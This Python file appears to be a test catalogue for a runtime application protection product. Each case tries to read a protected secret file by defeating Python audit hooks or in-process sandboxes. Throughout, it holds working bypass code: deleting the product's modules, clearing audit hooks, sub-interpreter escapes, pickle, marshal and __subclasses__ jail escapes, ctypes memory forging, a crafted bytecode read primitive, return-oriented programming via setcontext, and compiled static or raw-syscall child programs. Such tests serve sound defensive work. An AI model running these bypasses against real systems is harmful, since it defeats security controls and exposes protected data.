# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501
"""Published ways around audit hooks and in-process sandboxes for Python, in our terms: each ends in the content of a file."""

import os

from .channel import Topic, checked, libc, m, text_of

t = Topic("bypasses", "Published ways around audit hooks", kind="read")
PEP = "PEP 578: hooks set from Python can be found and rewritten"
FORGED = "SECURITY.md: memory that the language lets be forged"


def read(p):
    return open(p.secret).read()


t.group("taking the hooks away")


@t("every attribute of our modules replaced", source=PEP)
def _(p):
    sys = m("sys")
    for name in [each for each in sys.modules if "app_protect" in each or "appdefender" in each]:
        for key in list(vars(sys.modules[name])):
            try:
                setattr(sys.modules[name], key, None)
            except (AttributeError, TypeError):
                pass
        del sys.modules[name]
    return read(p)


@t("our module loaded again under a grant", source=PEP, alone=True)
def _(p):
    sys = m("sys")
    for name in [each for each in sys.modules if "app_protect" in each]:
        del sys.modules[name]
    os.environ["TREND_AP_POLICY"] = '{"schema": 1, "name": "mine", "files": {"tmp": "grant"}}'
    os.environ["TREND_AP_AGENT_ENABLED"] = "false"
    try:
        m("trend_app_protect.start")
    except ImportError:
        pass
    return read(p)


@t("lists of gc emptied", source=PEP, alone=True)
def _(p):
    for each in m("gc").get_objects():
        if isinstance(each, (list, dict)) and "app_protect" in repr(type(each)):
            each.clear()
    return read(p)


@t("sys._clearaudithooks", source=PEP)
def _(p):
    getattr(m("sys"), "_clearaudithooks", int)()
    return read(p)


@t("another audit hook that raises", source=PEP, alone=True)
def _(p):
    m("sys").addaudithook(lambda event, _: None)
    return read(p)


@t("profile and trace functions", source=PEP, alone=True)
def _(p):
    sys = m("sys")
    sys.setprofile(lambda *_: None)
    m("threading").setprofile(lambda *_: None)
    try:
        return read(p)
    finally:
        sys.setprofile(None)


@t("sys.monitoring events", source="PEP 669", alone=True)
def _(p):
    monitoring = m("sys").monitoring
    monitoring.use_tool_id(3, "x")
    monitoring.set_events(3, monitoring.events.CALL | monitoring.events.RAISE)
    monitoring.register_callback(3, monitoring.events.CALL, lambda *_: None)
    return read(p)


@t("exception swallowed by a generator's close", source="gc and finalisers run user code inside a hook")
def _(p):
    def work():
        try:
            yield
        finally:
            got.append(read(p))

    got = []
    generator = work()
    next(generator)
    generator.close()
    return got[0]


@t("deep recursion while the hook runs", source="limits inside a hook", several=True)
def _(p):
    got = []

    def deeper():
        try:
            return deeper()
        except RecursionError:
            got.append(read(p))

    deeper()
    return got


@t("at interpreter exit", source="gh-issue: hooks at finalisation", alone=True)
def _(p):
    m("atexit").register(lambda: print(read(p), flush=True))


@t("__del__ at interpreter exit", source="gh-issue: hooks at finalisation", alone=True)
def _(p):
    class Dying:
        def __del__(self, read=os.read, opened=os.open, write=os.write, name=p.secret):
            write(1, read(opened(name, 0), 99))

    m("sys").coverage_dying = Dying()


@t("private constructor of subprocess", source="bpo-37363: fork_exec raises no event")
def _(p):
    made = m("subprocess")
    return made.Popen.__subclasses__() and None or made.run(["cat", p.secret], stdout=-1).stdout


@t("type('', (), {}) subclasses walk", source="Python jail escapes: __subclasses__")
def _(p):
    for each in object.__subclasses__():
        if each.__name__ == "FileLoader":
            return each("x", p.secret).get_data(p.secret)
    for each in (m("importlib.machinery").SourceFileLoader,):
        return each("x", p.secret).get_data(p.secret)


@t("warnings.catch_warnings module walk", source="Python jail escapes")
def _(p):
    return m("warnings").sys.modules["os"].popen("cat " + p.secret).read()


@t("code object from marshal", source="Python jail escapes")
def _(p):
    code = m("marshal").loads(m("marshal").dumps(compile(f"x = open({p.secret!r}).read()", "", "exec")))
    scope = {}
    exec(code, scope)
    return scope["x"]


@t("pickle reduce", source="pickle runs functions")
def _(p):
    pickle = m("pickle")
    text = b"cbuiltins\nopen\n(V" + p.secret.encode() + b"\ntR."
    return pickle.loads(text).read()


@t("yaml-free eval of f-string", source="Python jail escapes")
def _(p):
    return eval(f"f'{{open({p.secret!r}).read()}}'".replace(f"{p.secret!r}", f'"{p.secret}"'))


t.group("sub-interpreters and threads")


@t("sub-interpreter without our modules", source="PEP 578: per-interpreter hooks do not reach other interpreters")
def _(p):
    try:
        interpreters = m("_interpreters")
    except ImportError:
        interpreters = m("_xxsubinterpreters")
    text = f"import sys\nsys.modules.clear\nimport posix\nposix.write(1, posix.read(posix.open({p.secret!r}, 0), 99))"
    return interpreters.run_string(interpreters.create(), text)


@t("sub-interpreter with its own GIL", source="PEP 684")
def _(p):
    concurrent = m("_interpreters") if m("sys").version_info >= (3, 13) else m("_xxsubinterpreters")
    made = concurrent.create("isolated") if m("sys").version_info >= (3, 13) else concurrent.create(isolated=True)
    text = f"import posix\nposix.write(1, posix.read(posix.open({p.secret!r}, 0), 99))"
    return concurrent.run_string(made, text)


t.group("memory")


def maps(name, permissions="x"):
    with open("/proc/self/maps") as file:
        for line in file:
            words = line.split()
            if len(words) > 5 and name in words[5] and permissions in words[1]:
                first, last = (int(x, 16) for x in words[0].split("-"))
                yield first, m("ctypes").string_at(first, last - first)


@t("a function pointer in ctypes' memory, ld.so's own openat", source="ctypes memory writes", alone=True)
def _(p):
    ctypes = m("ctypes")
    address = next(first + text.find(bytes.fromhex("f6c24075")) for first, text in maps("ld-linux"))
    function = libc().getpid
    ctypes.c_void_p.from_address(ctypes.addressof(function)).value = address
    return text_of(checked(function(-100, p.secret.encode(), 0)))


@t("a type slot pointed at ld.so's own openat", source="ctypes memory writes", alone=True, open=FORGED)
def _(p):
    ctypes = m("ctypes")
    address = next(first + text.find(bytes.fromhex("f6c24075")) for first, text in maps("ld-linux"))

    class C:
        def __len__(self):
            return 1

        def __setitem__(self, index, value):
            pass

    def word(at):
        return ctypes.c_void_p.from_address(at)

    sequence, mapping = word(id(C) + 104).value, word(id(C) + 112).value
    word(mapping).value = word(mapping + 16).value = None
    word(sequence + 40).value = address
    name = ctypes.create_string_buffer(p.secret.encode())
    expected = os.dup(0)
    os.close(expected)
    made = C()
    try:
        del made[ctypes.addressof(name)]
    except (SystemError, OSError):
        pass
    print(text_of(expected), flush=True)
    os._exit(0)


@t("a code object with an operand out of range", source="CPython: bytecode is trusted", alone=True, open=FORGED)
def _(p):
    struct, opcode = m("struct"), m("opcode")
    fake = struct.pack("<QQqqQQQ", 1 << 40, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
    pointer, constants = struct.pack("<Q", id(fake) + 32), (None,)
    offset = ((id(pointer) + 32 - (id(constants) + 24)) // 8) & 0xFFFFFFFF

    def function():
        pass

    extended, load, give = opcode.EXTENDED_ARG, opcode.opmap["LOAD_CONST"], opcode.opmap["RETURN_VALUE"]
    code = bytes([opcode.opmap["RESUME"], 0]) if "RESUME" in opcode.opmap else b""
    code += bytes(
        [extended, offset >> 24, extended, offset >> 16 & 255, extended, offset >> 8 & 255, load, offset & 255]
    )
    code += bytes([give, 0])
    function.__code__ = function.__code__.replace(co_code=code, co_consts=constants, co_stacksize=4)
    memory = function()
    with open("/proc/self/maps") as file:
        for line in file:
            words = line.split()
            if len(words) > 5 and "ld-linux" in words[5] and "x" in words[1]:
                first, last = (int(x, 16) for x in words[0].split("-"))
                address = first + bytes(memory[first:last]).find(bytes.fromhex("f6c24075"))

    class C:
        def __len__(self):
            return 1

        def __setitem__(self, index, value):
            pass

    def word(at):
        return struct.unpack("<Q", bytes(memory[at : at + 8]))[0]

    sequence, mapping = word(id(C) + 104), word(id(C) + 112)
    memory[mapping : mapping + 8] = memory[mapping + 16 : mapping + 24] = bytes(8)
    memory[sequence + 40 : sequence + 48] = struct.pack("<Q", address)
    name = p.secret.encode()
    expected = os.dup(0)
    os.close(expected)
    made = C()
    try:
        del made[id(name) + 32]
    except (SystemError, OSError):
        pass
    os.write(1, os.read(expected, 99))
    os._exit(0)


@t("setcontext into a system call instruction", source="return-oriented programming by name", alone=True, open=FORGED)
def _(p):
    ctypes, struct, library = m("ctypes"), m("struct"), libc()
    first, text = next(maps("/libc.so.6"))
    pop, call = first + text.find(b"\x58\xc3"), first + text.find(b"\x0f\x05\xc3")
    context, stack = ctypes.create_string_buffer(2048), ctypes.create_string_buffer(65536)
    top = (ctypes.addressof(stack) + 60000) & ~15
    name = ctypes.create_string_buffer(p.secret.encode())
    library.getcontext(context)
    for offset, value in ((104, ctypes.addressof(name)), (112, 0), (136, 0), (160, top), (168, pop)):
        struct.pack_into("Q", context, offset, value)
    struct.pack_into("5Q", stack, top - ctypes.addressof(stack), 2, call, pop, 60, call)
    expected = os.dup(0)
    os.close(expected)
    thread = ctypes.c_ulong()
    start = ctypes.c_void_p(ctypes.cast(library.setcontext, ctypes.c_void_p).value)
    library.pthread_create(ctypes.byref(thread), None, start, ctypes.c_void_p(ctypes.addressof(context)))
    m("time").sleep(0.15)
    return text_of(expected)


@t("fopencookie with ld.so's own openat", source="return-oriented programming by name", alone=True, open=FORGED)
def _(p):
    ctypes, library = m("ctypes"), libc()
    pointer = ctypes.c_void_p
    address = next(first + text.find(bytes.fromhex("f6c24075")) for first, text in maps("ld-linux"))

    class Functions(ctypes.Structure):
        _fields_ = [(name, pointer) for name in "rwsc"]

    library.fopencookie.restype = pointer
    library.fopencookie.argtypes = [pointer, ctypes.c_char_p, Functions]
    file = library.fopencookie(-100 & (2**64 - 1), b"w", Functions(0, address, 0, 0))
    expected = os.dup(0)
    os.close(expected)
    buffer = ctypes.create_string_buffer(1 << 17)
    library.setvbuf.argtypes = [pointer, pointer, ctypes.c_int, ctypes.c_size_t]
    library.setvbuf(file, ctypes.addressof(buffer), 0, 1 << 17)
    library.fwrite.argtypes = [ctypes.c_char_p, ctypes.c_size_t, ctypes.c_size_t, pointer]
    # The number of bytes is the flags: O_LARGEFILE.
    library.fwrite(p.secret.encode().ljust(0x8000, b"\0"), 1, 0x8000, file)
    library.fflush(pointer(file))
    os.write(1, os.read(expected, 99))
    os._exit(0)


@t("bsearch calls a libc function by its address", source="calls back by name", open=FORGED)
def _(p):
    ctypes, library = m("ctypes"), libc()
    library.bsearch.argtypes = [ctypes.c_char_p] + [ctypes.c_void_p] * 4
    address = ctypes.cast(library.open, ctypes.c_void_p).value
    expected = os.dup(0)
    os.close(expected)
    library.bsearch(p.secret.encode(), 0, 1, 1, address)
    return text_of(expected)


t.group("granted children")


@t(
    "a granted Python that calls by address",
    source="line 1 is not in children",
    open="SECURITY.md: a granted Python or Node child",
)
def _(p):
    text = (
        "import ctypes, os, sys\n"
        "for line in open('/proc/self/maps'):\n"
        "    w = line.split()\n"
        "    if len(w) > 5 and 'ld-linux' in w[5] and 'x' in w[1]:\n"
        "        a, b = [int(x, 16) for x in w[0].split('-')]\n"
        "        at = a + ctypes.string_at(a, b - a).find(bytes.fromhex('f6c24075'))\n"
        "f = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(at)\n"
        "print(os.read(f(-100, sys.argv[1].encode(), 0), 99).decode())\n"
    )
    return m("subprocess").run([m("sys").executable, "-c", text, p.secret], stdout=-1, stderr=-3).stdout


@t("a child's program in a writable place", source="line 2 is in it", kind="read")
def _(p):
    m("shutil").copy("/bin/cat", p.out + "/cat")
    return m("subprocess").run([p.out + "/cat", p.secret], stdout=-1, stderr=-3).stdout


@t(
    "a statically linked child",
    source="LD_PRELOAD does not reach it",
    alone=True,
)
def _(p):
    text = (
        b"#include <fcntl.h>\n#include <unistd.h>\nint main(int c, char** v) { char b[99]; int n = read(open(v[1], 0), b, 99);"
        b" return write(1, b, n) < 0; }"
    )
    made = p.out + "/static"
    m("subprocess").run(["cc", "-static", "-w", "-x", "c", "-", "-o", made], input=text, check=True, stderr=-3)
    return m("subprocess").run([made, p.secret], stdout=-1, stderr=-3).stdout


@t(
    "a child with a system call of its own",
    source="no libc call",
    alone=True,
    open="SECURITY.md: a granted program that is itself a file in a writable place",
)
def _(p):
    text = (
        b'#include <unistd.h>\nstatic long c(long n, long a, long b, long d) { long r; __asm__ volatile("syscall" : "=a"(r) : '
        b'"a"(n), "D"(a), "S"(b), "d"(d) : "rcx", "r11", "memory"); return r; }\n'
        b"int main(int n, char** v) { char b[99]; long f = c(2, (long)v[1], 0, 0); return write(1, b, c(0, f, (long)b, 99)) < 0; }"
    )
    made = p.out + "/raw"
    m("subprocess").run(["cc", "-w", "-x", "c", "-", "-o", made], input=text, check=True, stderr=-3)
    return m("subprocess").run([made, p.secret], stdout=-1, stderr=-3).stdout
